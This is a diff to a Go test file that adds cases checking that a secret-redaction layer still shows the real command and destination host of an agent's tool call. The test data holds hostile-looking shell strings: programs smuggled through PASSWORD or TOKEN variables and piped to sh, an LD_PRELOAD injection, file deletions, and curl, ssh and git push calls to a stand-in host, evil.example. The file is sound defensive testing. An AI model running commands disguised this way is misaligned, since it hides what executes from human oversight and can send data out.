@@ -86,6 +86,28 @@ func TestVW5_whatRunsIsShown(t *testing.T) {
 		`find . -name "token: x" -exec rm {} +`,
 		`rm "token: x"`,
 		`alias token=evil1234`,
+		`set PASSWORD evilprog; $PASSWORD`,
+		`set PASSWORD evilprog; $2`,
+		`read PASSWORD <<< evilprog; $PASSWORD`,
+		`echo evilprog | { read PASSWORD; $PASSWORD; }`,
+		`printf -v PASSWORD evilprog; $PASSWORD`,
+		`for PASSWORD in evilprog; do $PASSWORD; done`,
+		`PASSWORD=evil1234; bash <<< $PASSWORD`,
+		`PASSWORD=evil1234; echo $PASSWORD | sh`,
+		`PASSWORD=evil1234; source $PASSWORD`,
+		`PASSWORD=evil1234; python3 $PASSWORD`,
+		`PASSWORD=evil1234; cat $PASSWORD`,
+		`PASSWORD=evil1234; docker run $PASSWORD`,
+		`PASSWORD=evil1234; npm install $PASSWORD`,
+		`export PASSWORD=evil1234; env | sh`,
+		`cmd /c "set TOKEN=evilprog&& %TOKEN%"`,
+		`psql -h token=evil`,
+		`kubectl apply -f token=evil`,
+		`git clone x password=evil`,
+		`npm install token=evil`,
+		`curl --url token=evil`,
+		`PATH=/token=evil ls`,
+		`LD_PRELOAD=token=evil x`,
 	} {
 		full, reds := args(t, map[string]string{"command": in, "cwd": "/home/me/app"})
 		if got := member(t, full, "command"); got != in || len(reds) > 0 {
@@ -120,6 +142,17 @@ func TestVW5_aPathIsNoSecretElsewhere(t *testing.T) {
 
 // A host that another argument calls a secret is still where the command connects to.
 func TestVW5_aHostIsNoSecretElsewhere(t *testing.T) {
+	for call, want := range map[string]string{
+		`{"token":"evil.example","url":"https://evil.example/"}`:                      `"url":"https://evil.example/"`,
+		`{"token":"https://evil.example/x","url":"https://evil.example/x"}`:           `"url":"https://evil.example/x"`,
+		`{"token":"10.10.10.10","host":"10.10.10.10"}`:                                `"host":"10.10.10.10"`,
+		`{"password":"evilprog","env":{"HOST":"evilprog"},"command":"ssh $HOST"}`:     `"env":{"HOST":"evilprog"}`,
+		`{"password":"evilprog","env":["HOST=evilprog","A=b"],"command":"ssh $HOST"}`: `"env":["HOST=evilprog","A=b"]`,
+	} {
+		if got := shown(t, call); !strings.Contains(got, want) {
+			t.Errorf("%s is shown as %s", call, got)
+		}
+	}
 	for _, in := range []string{"ssh evil.example", "curl https://evil.example/x", "curl -s evil.example/x", "git push https://evil.example/x", "rm -r evil.example"} {
 		full, _ := args(t, map[string]string{"token": "evil.example", "command": in})
 		if got := member(t, full, "command"); got != in {
